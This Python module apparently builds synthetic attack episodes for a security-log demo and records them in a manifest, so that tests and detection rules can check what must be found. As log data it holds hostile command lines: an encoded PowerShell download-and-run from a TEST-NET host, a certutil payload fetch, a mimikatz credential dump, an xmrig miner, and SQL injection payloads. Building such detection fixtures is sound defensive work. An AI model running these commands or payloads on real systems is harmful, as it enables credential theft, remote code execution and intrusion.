"""The attack episodes hidden in the demo data, and the manifest that locates them.

Each episode is a short, exact story with fixed values (addresses, users,
commands) placed at a fixed fraction of the generated time window, so its
timestamps depend only on ``days`` and ``end_ms``, never on the seed. Tests
and behavior rules read the manifest to know what must be found.

None of the values below ever occurs in background traffic: the attacker
addresses come from TEST-NET ranges the vocabulary does not use, and the
needle words appear nowhere else.
"""

from __future__ import annotations

import base64
import random
from dataclasses import dataclass, field
from typing import Any

from seclake.demo import auth, dns, edr, firewall, flow, ids, okta, proxy
from seclake.demo.clock import DAY_MS, Minute
from seclake.demo.line import DemoLine
from seclake.demo.vocabulary import Tenant, sha256_of, world

# Brute force against the acme bastion over SSH, then a success.
BRUTE_FORCE_IP = "203.0.113.7"
BRUTE_FORCE_USER = "admin"
BRUTE_FORCE_FAILURES = 57
# Password spraying against globex's Okta: one guess per account, then one
# account whose password was on the list.
SPRAY_IP = "203.0.113.66"
SPRAY_ACCOUNTS = 24
# A SYN scan of the globex public address.
SCANNER_IP = "198.51.100.23"
SCAN_PORT_COUNT = 300
# One acme workstation sends GBs out over HTTPS.
EXFIL_DST_IP = "198.51.100.77"
EXFIL_BYTES = 4_718_592_000
EXFIL_DURATION_MS = 2_280_000
# Credential theft on a globex workstation.
MIMIKATZ_PATH = r"C:\Windows\Temp\mimikatz.exe"
MIMIKATZ_CMDLINE = r"C:\Windows\Temp\mimikatz.exe sekurlsa::logonpasswords"
# A macro launches hidden, encoded PowerShell on an initech workstation, which
# then fetches a payload with certutil and beacons to bad domains.
ENCODED_PS_SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.99/a.ps1')"
ENCODED_PS_CMDLINE = (
    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -NoP -NonI -W Hidden -EncodedCommand "
    + base64.b64encode(ENCODED_PS_SCRIPT.encode("utf-16-le")).decode()
)
CERTUTIL_CMDLINE = r"certutil.exe -urlcache -split -f http://198.51.100.99/p.exe C:\Users\Public\p.exe"
BAD_DOMAINS = ("update-check.badcorp-cdn.top", "k3x9q2.badcorp-relay.su")
# The acme Administrator, who only ever signs in from the jump host, signs in
# from an address never seen before.
NEW_ADDRESS_IP = "198.51.100.200"
NEW_ADDRESS_USER = "Administrator"
NEW_ADDRESS_WORKSTATION = "DESKTOP-7Q2M1ZK"
# Rare needles: each word occurs only in its episode's lines.
SQLMAP_UA = "sqlmap/1.7.2#stable (https://sqlmap.org)"
XMRIG_CMDLINE = r"C:\Users\Public\xmrig.exe -o pool.minexmr.example:4444 --donate-level 1 --cpu-max-threads-hint 50"
NEEDLES = ("mimikatz", "sekurlsa", "EncodedCommand", "certutil", "badcorp", "sqlmap", "xmrig", "7Q2M1ZK")

# Where in the window each episode starts, as a fraction of the window.
_AT = {"cryptominer": 0.15, "sql_injection_scan": 0.35, "port_scan": 0.45, "encoded_powershell": 0.62,
       "bad_domain_dns": 0.62, "mimikatz": 0.72, "brute_force": 0.80, "exfiltration": 0.88,
       "admin_new_address": 0.95, "password_spray": 0.55}


@dataclass(frozen=True)
class Episode:
    name: str
    customer: str
    vendors: tuple[str, ...]
    start_ms: int  # timestamp of the first line
    end_ms: int  # timestamp of the last line
    lines: int
    values: dict[str, Any] = field(default_factory=dict)


@dataclass(frozen=True)
class Manifest:
    start_ms: int
    end_ms: int
    flows: bool
    episodes: tuple[Episode, ...]
    # needle word -> how many lines of the whole output contain it (case-insensitive)
    needles: dict[str, int]

    def episode(self, name: str) -> Episode:
        for e in self.episodes:
            if e.name == name:
                return e
        raise KeyError(name)


class _Builder:
    def __init__(self, start_ms: int, window_ms: int, flows: bool) -> None:
        self.start_ms, self.window_ms, self.flows = start_ms, window_ms, flows
        self.lines: list[tuple[int, DemoLine]] = []
        self.episodes: list[Episode] = []
        self._mark = 0

    def at(self, name: str) -> int:
        t = self.start_ms + int(_AT[name] * self.window_ms)
        return t - t % 1000 + 137

    def add(self, ts: int, vendor: str, dataset: str, line: str, customer: str) -> None:
        self.lines.append((ts, DemoLine(vendor, dataset, line, customer)))  # type: ignore[arg-type]

    def close(self, name: str, customer: str, **values: Any) -> None:
        mine = self.lines[self._mark:]
        self._mark = len(self.lines)
        ts = [t for t, _ in mine]
        self.episodes.append(Episode(name, customer, tuple(sorted({d.vendor for _, d in mine})),
                                     min(ts), max(ts), len(mine), values))


def _tenant(name: str) -> Tenant:
    return next(t for t in world().tenants if t.name == name)


def _brute_force(b: _Builder) -> None:
    tn = _tenant("acme")
    host = tn.linux.values[0].name  # the bastion, the one host exposed to the internet
    t = b.at("brute_force")
    first = t
    for k in range(BRUTE_FORCE_FAILURES):
        t = first + k * 3700 + (k * 7919) % 900
        msg = f"Failed password for {BRUTE_FORCE_USER} from {BRUTE_FORCE_IP} port {40000 + k * 17} ssh2"
        b.add(t, auth.SSHD, "event", auth.format_sshd(Minute(t), t, host, 20311 + k, msg), tn.name)
    last_failure = t
    success = t + 20_000
    msg = f"Accepted password for {BRUTE_FORCE_USER} from {BRUTE_FORCE_IP} port 41999 ssh2"
    b.add(success, auth.SSHD, "event", auth.format_sshd(Minute(success), success, host, 20400, msg), tn.name)
    opened = success + 12
    msg = f"pam_unix(sshd:session): session opened for user {BRUTE_FORCE_USER}(uid=1001) by (uid=0)"
    b.add(opened, auth.SSHD, "event", auth.format_sshd(Minute(opened), opened, host, 20400, msg), tn.name)
    b.close("brute_force", tn.name, src_ip=BRUTE_FORCE_IP, user=BRUTE_FORCE_USER, host=host,
            failures=BRUTE_FORCE_FAILURES, first_failure_ms=first, last_failure_ms=last_failure,
            success_ms=success)


def _password_spray(b: _Builder) -> None:
    tn = _tenant("globex")
    accounts = list(dict.fromkeys(tn.owners))[:SPRAY_ACCOUNTS]
    t0 = b.at("password_spray")
    t = t0
    for k, user in enumerate(accounts):
        t = t0 + k * 9_000 + (k * 613) % 700
        b.add(t, okta.VENDOR, "event", okta.format_line(t, tn, user, SPRAY_IP, okta.SIGN_ON, False, 2), tn.name)
    cracked = accounts[SPRAY_ACCOUNTS // 2]
    success = t + 41_000
    b.add(success, okta.VENDOR, "event",
          okta.format_line(success, tn, cracked, SPRAY_IP, okta.SIGN_ON, True, 2), tn.name)
    b.close("password_spray", tn.name, src_ip=SPRAY_IP, users=tuple(accounts), cracked=cracked,
            failures=len(accounts), first_ms=t0, success_ms=success)


def _port_scan(b: _Builder) -> None:
    tn = _tenant("globex")
    common = [21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1433, 1723,
              3306, 3389, 5432, 5900, 5985, 6379, 8080, 8443, 9200, 27017]
    ports = list(dict.fromkeys(common + list(range(1, 1025))))[:SCAN_PORT_COUNT]
    random.Random("seclake-demo-port-scan").shuffle(ports)
    t0 = b.at("port_scan")
    t = t0
    for k, port in enumerate(ports):
        t = t0 + k * 150 + (k * 31) % 100
        m = Minute(t)
        b.add(t, firewall.VENDOR, "event",
              firewall.format_line(m, t, tn.firewalls.values[0], srcip=SCANNER_IP, srcport=54321,
                                   dstip=tn.public_ip, dstport=port, proto=6, action="deny",
                                   service=f"tcp/{port}", policyid=0), tn.name)
        if b.flows:
            f = flow.flow_fields(t, sip=SCANNER_IP, dip=tn.public_ip, sp=54321, dp=port, prot=6,
                                 txB=44, rxB=40, txP=1, rxP=1, dur=0)
            b.add(t, flow.VENDOR, "flow", flow.format_line(t, tn.name, tn.flow_exporter, f, k % 2 == 1), tn.name)
        if k in (5, 150):
            alert = t + 3
            sid, name = (2009582, "ET SCAN NMAP -sS window 1024") if k == 5 else \
                        (2002911, "ET SCAN Potential VNC Scan 5900-5920")
            b.add(alert, ids.VENDOR, "event",
                  ids.format_line(alert, sid=sid, name=name, severity=6, category="Attempted Information Leak",
                                  proto="TCP", src=SCANNER_IP, spt=54321, dst=tn.public_ip, dpt=port,
                                  sensor=tn.ids_sensor, flow_id=1_234_567_000 + k), tn.name)
    b.close("port_scan", tn.name, src_ip=SCANNER_IP, dst_ip=tn.public_ip, ports=tuple(sorted(ports)),
            distinct_ports=len(ports), first_ms=t0, last_ms=t)


def _exfiltration(b: _Builder) -> None:
    tn = _tenant("acme")
    i = 41
    src, host = tn.workstation_ips[i], tn.workstations[i]
    t = b.at("exfiltration")
    rx = 9_437_184
    if b.flows:
        f = flow.flow_fields(t, sip=src, dip=EXFIL_DST_IP, sp=51515, dp=443, prot=6, txB=EXFIL_BYTES, rxB=rx,
                             txP=EXFIL_BYTES // 1400, rxP=rx // 600, dur=EXFIL_DURATION_MS)
        b.add(t, flow.VENDOR, "flow", flow.format_line(t, tn.name, tn.flow_exporter, f, False), tn.name)
    end = t + EXFIL_DURATION_MS  # the firewall logs a session when it closes
    b.add(end, firewall.VENDOR, "event",
          firewall.format_line(Minute(end), end, tn.firewalls.values[0], srcip=src, srcport=51515,
                               dstip=EXFIL_DST_IP, dstport=443, proto=6, action="close", service="HTTPS",
                               policyid=12, duration=EXFIL_DURATION_MS // 1000, sentbyte=EXFIL_BYTES,
                               rcvdbyte=rx), tn.name)
    b.close("exfiltration", tn.name, src_ip=src, src_host=host, dst_ip=EXFIL_DST_IP, dst_port=443,
            bytes=EXFIL_BYTES, start_ms=t, duration_ms=EXFIL_DURATION_MS)


def _edr(b: _Builder, t: int, tn: Tenant, host: str, user: str, process: str, cmdline: str,
         parent: str, pid: int, ppid: int, signed: bool = False) -> None:
    b.add(t, edr.VENDOR, "event",
          edr.format_line(t, tn.name, host=host, user=user, process=process, cmdline=cmdline, parent=parent,
                          pid=pid, ppid=ppid, sha256=sha256_of(process), signed=signed,
                          integrity="High", sensor=tn.edr_sensor), tn.name)


def _mimikatz(b: _Builder) -> None:
    tn = _tenant("globex")
    i = 112
    host, user = tn.workstations[i], f"{tn.netbios}\\{tn.owners[i]}"
    t = b.at("mimikatz")
    cmd = r"C:\Windows\System32\cmd.exe"
    _edr(b, t, tn, host, user, MIMIKATZ_PATH, rf"{MIMIKATZ_PATH} privilege::debug", cmd, 7412, 6120)
    _edr(b, t + 2400, tn, host, user, MIMIKATZ_PATH, MIMIKATZ_CMDLINE, cmd, 7420, 6120)
    b.close("mimikatz", tn.name, host=host, user=user, process=MIMIKATZ_PATH, cmdline=MIMIKATZ_CMDLINE,
            sha256=sha256_of(MIMIKATZ_PATH))


def _encoded_powershell(b: _Builder) -> tuple[str, str]:
    tn = _tenant("initech")
    i = 6
    host, user = tn.workstations[i], f"{tn.netbios}\\{tn.owners[i]}"
    t = b.at("encoded_powershell")
    ps = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
    word = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
    _edr(b, t, tn, host, user, ps, ENCODED_PS_CMDLINE, word, 5128, 4410, signed=True)
    _edr(b, t + 4100, tn, host, user, r"C:\Windows\System32\certutil.exe", CERTUTIL_CMDLINE, ps, 5300, 5128,
         signed=True)
    b.close("encoded_powershell", tn.name, host=host, user=user, process=ps, parent=word,
            cmdline=ENCODED_PS_CMDLINE, decoded=ENCODED_PS_SCRIPT, lolbin_cmdline=CERTUTIL_CMDLINE)
    return host, tn.workstation_ips[i]


def _bad_domain_dns(b: _Builder, client: str) -> None:
    tn = _tenant("initech")
    t0 = b.at("bad_domain_dns") + 90_000
    queries = [(BAD_DOMAINS[0], "A", "NOERROR", 1)] * 5 + [(BAD_DOMAINS[1], "TXT", "NXDOMAIN", None)] * 3
    for k, (query, qtype, rcode, answers) in enumerate(queries):
        t = t0 + k * 361_000
        b.add(t, dns.VENDOR, "event",
              dns.format_line(Minute(t), t, tn.dns_server.name, client=client, port=50000 + k, query=query,
                              qtype=qtype, rcode=rcode, view="internal", resolver=tn.dns_server.ip,
                              answers=answers), tn.name)
        if k == 0:
            b.add(t + 5, ids.VENDOR, "event",
                  ids.format_line(t + 5, sid=2023883, name="ET DNS Query to a *.top domain - Likely Hostile",
                                  severity=5, category="Potentially Bad Traffic", proto="UDP", src=client,
                                  spt=50000, dst=tn.dns_server.ip, dpt=53, sensor=tn.ids_sensor,
                                  flow_id=987_654_321), tn.name)
    b.close("bad_domain_dns", tn.name, client=client, domains=BAD_DOMAINS, queries=len(queries))


def _admin_new_address(b: _Builder) -> None:
    tn = _tenant("acme")
    dc = tn.dcs.values[0]
    computer = f"{dc.name}.{tn.domain}"
    t = b.at("admin_new_address")
    f = auth.logon_fields(4624, computer, NEW_ADDRESS_USER, tn.netbios, ip=NEW_ADDRESS_IP, port=51022,
                          logon_type=10, workstation=NEW_ADDRESS_WORKSTATION)
    b.add(t, auth.WINDOWS, "event", auth.format_windows(t, tn.name, computer, f), tn.name)
    b.close("admin_new_address", tn.name, user=NEW_ADDRESS_USER, src_ip=NEW_ADDRESS_IP, computer=computer,
            logon_type=10, usual_ip=tn.jump_host.ip)


def _sql_injection_scan(b: _Builder) -> None:
    tn = _tenant("globex")
    i = 20
    t0 = b.at("sql_injection_scan")
    payloads = ("1", "1'", "1 AND 1=1", "1 AND 1=2", "1' OR '1'='1", "1 UNION ALL SELECT NULL--",
                "1 UNION ALL SELECT NULL,NULL--", "1;WAITFOR DELAY '0:0:5'--", "1 AND SLEEP(5)",
                "1) AND (SELECT 4242 FROM (SELECT(SLEEP(5)))x)--", "-1 OR 2+2=4", "1 ORDER BY 10--")
    for k, p in enumerate(payloads):
        t = t0 + k * 9_500
        url = "https://hr.globex.example/employee.php?id=" + p.replace(" ", "%20").replace("'", "%27")
        b.add(t, proxy.VENDOR, "event",
              proxy.format_line(Minute(t), t, tn.name, client_ip=tn.workstation_ips[i], user=None, method="GET",
                                host="hr.globex.example", url=url, status=500 if "'" in p else 200,
                                nbytes=1800 + 37 * k, category="Business", user_agent=SQLMAP_UA,
                                elapsed_ms=5000 if "SLEEP" in p or "DELAY" in p else 40,
                                result="TCP_MISS/500" if "'" in p else "TCP_MISS/200",
                                content_type="text/html"), tn.name)
    b.close("sql_injection_scan", tn.name, client_ip=tn.workstation_ips[i], user_agent=SQLMAP_UA,
            requests=len(payloads))


def _cryptominer(b: _Builder) -> None:
    tn = _tenant("initech")
    i = 33
    host, user = tn.workstations[i], f"{tn.netbios}\\{tn.owners[i]}"
    t = b.at("cryptominer")
    _edr(b, t, tn, host, user, r"C:\Users\Public\xmrig.exe", XMRIG_CMDLINE, r"C:\Windows\System32\cmd.exe",
         9100, 8800)
    b.close("cryptominer", tn.name, host=host, user=user, cmdline=XMRIG_CMDLINE)


def build(*, days: int, end_ms: int, flows: bool = True) -> tuple[Manifest, list[tuple[int, DemoLine]]]:
    """The manifest and the episode lines as ``(timestamp_ms, line)``, sorted by time."""
    if days < 1:
        raise ValueError("days must be at least 1")
    window = days * DAY_MS
    b = _Builder(end_ms - window, window, flows)
    _cryptominer(b)
    _sql_injection_scan(b)
    _port_scan(b)
    _, client = _encoded_powershell(b)
    _bad_domain_dns(b, client)
    _mimikatz(b)
    _brute_force(b)
    _password_spray(b)
    _exfiltration(b)
    _admin_new_address(b)
    lines = sorted(b.lines, key=lambda p: p[0])
    needles = {w: sum(1 for _, d in lines if w.lower() in d.line.lower()) for w in NEEDLES}
    return Manifest(end_ms - window, end_ms, flows, tuple(b.episodes), needles), lines


def manifest(*, days: int, end_ms: int, flows: bool = True) -> Manifest:
    return build(days=days, end_ms=end_ms, flows=flows)[0]
